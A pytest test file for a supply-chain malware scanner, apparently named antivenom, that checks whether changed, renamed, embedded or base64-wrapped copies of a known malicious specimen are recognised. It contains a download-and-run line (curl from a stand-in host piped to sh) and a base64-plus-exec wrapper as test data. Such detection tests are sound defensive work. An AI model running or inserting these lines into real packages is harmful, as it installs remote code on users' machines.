from __future__ import annotations

import random

import pytest
from msgspec import structs

from antivenom.likeness.facts import likeness
from antivenom.likeness.making import Group, Known, KnownText, make
from antivenom.model.fact import Fact
from antivenom.model.fingerprint import fingerprint
from antivenom.model.profile import Profile
from tests.likeness.known import (
    LIBRARY,
    THIEF,
    good,
    good_code,
    index,
    judged,
    observed,
    specimen,
)

CHANGED = THIEF.replace("drop.example", "other.invalid").replace("demo", "dem0").replace("5", "9")
RENAMED = (
    THIEF.replace("collect", "q1").replace("deliver", "q2").replace("found", "q3")
    + "\n# a comment of its own\n"
)
LONGER = THIEF.replace("import json\n", "import json\nimport random\n").replace(
    "    body = ", "    random.seed(7)\n    body = "
)
HARMLESS = "from setuptools import setup\n\nsetup(name='demo', version='1.0')\n"


def like(profile: Profile, *known: Known, **more: object) -> list[Fact]:
    return list(likeness(profile, index(*known, **more)))  # type: ignore[arg-type]


def ways(facts: list[Fact]) -> list[str]:
    return [fact.args[0] for fact in facts if fact.id == "like.specimen"]


def test_the_same_archive_is_known() -> None:
    profile = observed(THIEF)
    facts = like(profile, specimen(profile))
    assert facts[0].member == ""
    assert facts[0].value == profile.sha256
    assert facts[0].args == ("by=file", "share=100", "label=malware")


def test_the_same_file_in_another_archive_is_known() -> None:
    facts = like(observed(THIEF, "another"), specimen(observed(THIEF)))
    assert [(f.member, f.args[0], f.activation) for f in facts] == [
        ("another-1.0/setup.py", "by=file", "build")
    ]


@pytest.mark.parametrize(
    ("text", "way"), [(CHANGED, "by=skeleton"), (RENAMED, "by=skeleton"), (LONGER, "by=code")]
)
def test_a_changed_copy_is_recognised(text: str, way: str) -> None:
    assert ways(like(observed(text), specimen(observed(THIEF)))) == [way]


def test_functions_moved_into_other_code_are_recognised() -> None:
    body = THIEF.partition("class Install")[0]
    other = body.replace("from setuptools", "from distutils").replace("urlopen", "urlopen")
    known = specimen(observed(THIEF + "\n".join(f"x{n} = {n}" for n in range(300))))
    assert ways(like(observed(other), known))


def test_a_payload_inside_a_long_file_is_recognised() -> None:
    inside = THIEF.rpartition("setup(")[0] + "\n".join(f"x{n} = {n}" for n in range(60))
    facts = like(observed(inside), specimen(observed(THIEF)))
    assert ways(facts) == ["by=code"]
    assert int(facts[0].args[1].removeprefix("share=")) < 50


@pytest.mark.parametrize("text", [HARMLESS, "", "import os\n", LIBRARY])
def test_other_code_is_not_recognised(text: str) -> None:
    assert like(observed(text), specimen(observed(THIEF))) == []


def test_the_library_of_a_trojanised_copy_is_not_recognised() -> None:
    stolen = observed(HARMLESS, **{"demo/__init__.py": LIBRARY + THIEF})
    library = observed(HARMLESS, "library", **{"library/__init__.py": LIBRARY})
    known = specimen(stolen, "__init__.py")
    newer = observed(HARMLESS, "library", **{"library/__init__.py": LIBRARY + "\nVERSION = 2\n"})
    assert like(newer, known) != []
    assert like(newer, known, known_good=good(good_code(library))) == []


def test_known_good_code_clears_nothing_else() -> None:
    stolen = observed(HARMLESS, **{"demo/__init__.py": LIBRARY + THIEF})
    library = observed(HARMLESS, "library", **{"library/__init__.py": LIBRARY})
    again = observed(HARMLESS, "other", **{"other/__init__.py": LIBRARY + LONGER})
    facts = like(again, specimen(stolen, "__init__.py"), known_good=good(good_code(library)))
    assert ways(facts) == ["by=code"]
    assert int(facts[0].args[1].removeprefix("share=")) > 70


def test_a_copy_of_known_good_files_is_said() -> None:
    files = {f"library/m{n}.py": LIBRARY.replace("part", f"p{n}") for n in range(4)}
    library = observed(HARMLESS, "library", **files)
    facts = like(observed(HARMLESS, "copy", **files), known_good=good(good_code(library)))
    assert [(f.id, f.value, f.args) for f in facts] == [
        ("like.known-good", "library 1.0", ("by=file", "count=4"))
    ]


def test_a_campaign_is_named_and_counted() -> None:
    groups = (Group("c1", "demo-1f2e", 5433),)
    facts = like(observed(LONGER), specimen(observed(THIEF), campaign="c1"), groups=groups)
    assert [f.id for f in facts] == ["like.specimen", "like.campaign"]
    assert facts[1].value == "demo-1f2e"
    assert facts[1].args[2] == "specimens=5433"


def test_hidden_texts_are_recognised() -> None:
    import base64

    hidden = base64.b64encode(THIEF.encode()).decode()
    outer = f"import base64\nexec(base64.b64decode('{hidden}'))\n"
    facts = like(observed(outer), specimen(observed(THIEF)))
    assert [(f.layer, f.args[0]) for f in facts] == [(1, "by=file")]


def test_a_moderator_reads_a_sentence() -> None:
    groups = (Group("c1", "demo-1f2e", 5433),)
    found = index(specimen(observed(THIEF), campaign="c1"), groups=groups)
    review = judged(observed(CHANGED), found)
    said = next(f for f in review.findings if f.rule == "supply/campaign-code")
    assert said.reason == (
        "100 % of demo-1.0/setup.py is the code of campaign demo-1f2e (5,433 specimens)"
    )
    assert review.verdict == "malicious"


def test_what_is_known_changes_the_digest_of_knowledge() -> None:
    one = judged(observed(HARMLESS), index(specimen(observed(THIEF))))
    two = judged(observed(HARMLESS), index(specimen(observed(CHANGED))))
    assert one.digests.knowledge != two.digests.knowledge


def test_the_same_knowledge_makes_the_same_bytes() -> None:
    known = [specimen(observed(text)) for text in (THIEF, LONGER, RENAMED)]
    assert make(known, ()) == make(reversed(known), ())


def test_a_flood_of_like_members_is_told_by_its_first() -> None:
    files = {f"demo/m{n}.py": THIEF for n in range(60)}
    facts = like(observed(HARMLESS, **files), specimen(observed(THIEF)))
    assert len(facts) == 20


def test_common_lines_cost_a_bounded_number_of_comparisons() -> None:
    random.seed(5)
    common = [random.getrandbits(32) for _ in range(30)]
    known = []
    for n in range(500):
        own = [random.getrandbits(32) for _ in range(60)]
        text = KnownText(sha256=f"{n:064x}", fingerprint=fingerprint(common + own).text())
        known.append(Known(sha256=f"{n + 9000:064x}", texts=(text,)))
    found = index(*known)
    assert found.code(fingerprint([*common, *range(40)]), ()) is None


SHORT = "import os\n\nos.system('curl -o /tmp/x https://drop.example/x && sh /tmp/x')\n"


def test_a_program_of_few_lines_is_the_same_or_it_is_not() -> None:
    known = structs.replace(specimen(observed(SHORT)), acts=(("process.shell",),))
    same = observed(SHORT.replace("drop.example", "other.invalid").replace("/x", "/yy"), "other")
    (found,) = [one for one in like(same, known) if one.id == "like.specimen"]
    assert found.args[:2] == ("by=code", "share=100")
    more = observed(SHORT + "print('one line more')\n", "other")
    assert like(more, known) == []


@pytest.mark.parametrize(
    "text", [SHORT.replace("os.system(", "os.getenv("), "import os\n\nos.system(x)\n", HARMLESS]
)
def test_few_lines_that_do_something_else_are_not_recognised(text: str) -> None:
    known = structs.replace(specimen(observed(SHORT)), acts=(("process.shell",),))
    assert like(observed(text, "other"), known) == []
